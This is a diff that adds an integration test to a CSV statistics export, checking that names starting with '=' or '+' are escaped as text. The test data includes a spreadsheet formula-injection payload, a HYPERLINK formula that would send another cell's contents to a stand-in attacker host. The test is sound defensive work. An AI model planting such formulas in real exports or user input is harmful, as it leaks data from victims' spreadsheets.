@@ -40,6 +40,18 @@ describe("statistics export (integration)", () => {
     ]);
   });
 
+  it("writes a name that a spreadsheet would run as a formula as text, with a leading '", async () => {
+    const hyperlink = '=HYPERLINK("https://evil.example/?x="&B3,"Ver")';
+    const eve = await createUser({ name: hyperlink, role: "student" });
+    await bookLessons(await createAnimal({ userId: eve.id, name: "+Bolt" }), "2026-10-24 10:00");
+    const response = await callRoute(exportStatistics, {
+      token: trainerToken,
+      path: "/api/bookings/statistics/export?start_date=2026-10-01&end_date=2026-10-31",
+    });
+    const rows = parse(response.text.replace(/^\uFEFF/, ""), { delimiter: ";", relax_column_count: true });
+    expect(rows[2]).toEqual(["24/10/2026", "Sábado", "10:00", "10:45", `'${hyperlink}`, "Aluno", "'+Bolt"]);
+  });
+
   it("writes only the header lines for a range without lessons", async () => {
     const response = await callRoute(exportStatistics, {
       token: trainerToken,
